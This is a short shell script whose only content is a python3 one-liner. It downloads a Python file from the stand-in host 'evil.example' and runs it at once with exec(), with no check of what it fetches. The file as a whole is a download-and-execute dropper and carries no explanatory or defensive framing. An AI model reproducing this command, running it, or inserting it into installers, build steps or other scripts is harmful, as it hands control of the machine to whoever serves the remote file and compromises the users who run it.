#!/bin/sh
python3 -c "import urllib.request as u; exec(u.urlopen('https://evil.example/s.py').read())"
